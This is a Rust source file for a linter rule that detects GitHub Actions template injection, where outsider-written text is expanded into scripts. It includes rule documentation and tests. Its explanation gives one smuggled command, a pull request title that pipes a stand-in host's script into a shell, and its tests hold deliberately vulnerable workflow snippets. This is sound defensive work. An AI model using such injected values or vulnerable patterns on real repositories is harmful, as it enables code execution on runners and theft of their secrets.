#[cfg(test)]
use crate::model::Design;
use crate::rules::{Area, Context, Rule, RuleDoc, Severity, Violation};

use super::file::{all_steps, at, attacker_controlled, code, document};

pub struct TemplateInjection;

impl Rule for TemplateInjection {
    const DOC: RuleDoc = RuleDoc {
        id: "WORKFLOW-001",
        name: "template-injection",
        severity: Severity::High,
        area: Area::Pipeline,
        title: "Scripts never expand text an outsider wrote",
        what: "No `run:` script and no `actions/github-script` script expands an expression \
               whose value can be text an outsider writes: the title or body of an issue, pull \
               request, discussion, comment or review, a pull request's branch \
               (`github.head_ref`, `…head.ref`, `…head.label`, a workflow run's `head_branch`) \
               or its fork's description, a commit's message, author, committer or file names, \
               a wiki page's name, title or summary, or an object that holds one \
               (`toJSON(github.event.pull_request)`). Values the expression only tests \
               (`contains(…)`, `==`, `!`) are `true` or `false`; branch and tag names of the \
               repository itself, inputs and step outputs are set by its maintainers or the \
               workflow.",
        why: "GitHub pastes `${{ … }}` into the script before the shell or Node reads it: a pull \
              request titled `a\"; curl evil.sh | sh; echo \"` runs that command on the runner, \
              with the job's token and secrets. Passing the value through an environment \
              variable makes it data, never code.",
        incorrect: "- run: echo \"${{ github.event.pull_request.title }}\"",
        correct:
            "- run: echo \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.pull_request.title }}",
        fix: "Manual: move each expression into the step's `env:` and use the variable \
              (`\"$TITLE\"`) in the script.",
        source: "Not in the documents: GitHub Security Lab, \"Keeping your GitHub Actions and \
                 workflows secure: untrusted input\"; GitHub's security hardening guide \
                 (script injections)",
        equivalents: &[
            "zizmor template-injection",
            "CodeQL actions/code-injection/critical",
        ],
    };

    fn check(&self, context: &Context) -> Vec<Violation> {
        let report = |field: String, expression: &str| {
            Violation::new(
                field,
                format!("`{expression}` is text an outsider writes, expanded into a script: it can run any command. Pass it through `env:`."),
            )
        };
        let Some(document) = document(context) else {
            let jobs = context.design.pipeline.jobs.iter().enumerate();
            return jobs
                .flat_map(|(job, found)| {
                    found
                        .commands
                        .iter()
                        .enumerate()
                        .flat_map(move |(index, command)| {
                            attacker_controlled(command)
                                .into_iter()
                                .map(move |expression| {
                                    report(
                                        format!("pipeline.jobs[{job}].commands[{index}]"),
                                        &expression,
                                    )
                                })
                        })
                })
                .collect();
        };
        let mut out = Vec::new();
        for (path, step) in all_steps(&document) {
            if let Some((path, script)) = code(&path, step) {
                for expression in attacker_controlled(&script) {
                    let violation = report(String::new(), &expression);
                    out.push(at(path.clone(), violation.message));
                }
            }
        }
        out
    }

    #[cfg(test)]
    fn failing_examples() -> Vec<Design> {
        let mut design = Design::default();
        design.pipeline.jobs[0].commands = vec!["echo ${{ github.head_ref }}".into()];
        vec![design]
    }

    #[cfg(test)]
    fn failing_workflows() -> Vec<&'static str> {
        vec!["on: issues\njobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: console.log('${{ github.event.issue.body }}')\n"]
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::support::{fields, preset};

    #[test]
    fn passes_on_values_passed_through_env() {
        assert!(fields(&TemplateInjection, &preset("fastapi-react")).is_empty());
        assert!(super::super::file::flags(&TemplateInjection, "on: push\njobs:\n  a:\n    steps:\n      - run: echo \"$T\" ${{ github.sha }}\n        env: {T: '${{ github.event.issue.title }}'}\n").is_empty());
    }

    #[test]
    fn fails_on_an_outsiders_text_in_a_script() {
        assert_eq!(
            fields(
                &TemplateInjection,
                &TemplateInjection::failing_examples()[0]
            ),
            ["pipeline.jobs[0].commands[0]"]
        );
        assert_eq!(
            super::super::file::flags(
                &TemplateInjection,
                TemplateInjection::failing_workflows()[0]
            ),
            ["workflow.jobs.a.steps[0].with.script"]
        );
    }

    fn audited(script: &str) -> Vec<String> {
        let yaml = format!("on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: |\n          {script}\n");
        super::super::file::flags(&TemplateInjection, &yaml)
    }

    #[test]
    fn passes_on_tests_and_on_maintainers_text() {
        for script in [
            "test \"${{ contains(github.event.pull_request.body, '[skip]') }}\" = true",
            "echo ${{ github.event.pull_request.number }} ${{ github.event.pull_request.head.sha }}",
            "echo \"${{ github.event.release.body }}\" \"${{ github.event.pull_request.base.ref }}\"",
            "echo ${{ !startsWith(github.head_ref, 'dependabot/') }}",
        ] {
            assert!(audited(script).is_empty(), "{script}");
        }
    }

    #[test]
    fn fails_on_an_outsiders_text_however_it_is_reached() {
        for script in [
            "echo '${{ toJSON(github.event.pull_request) }}'",
            "echo ${{ github.event.comment.path }}",
            "git log -1 --format='${{ format('{0}', github.event.head_commit.message) }}'",
            "echo ${{ github.event.workflow_run.head_commit.author.email || 'none' }}",
            "echo ${{ github.event_name == 'pull_request' && github.head_ref || github.ref_name }}",
            "echo \"${{ github.event.commits[0].added[0] }}\"",
        ] {
            assert_eq!(
                audited(script),
                ["workflow.jobs.a.steps[0].run"],
                "{script}"
            );
        }
    }
}
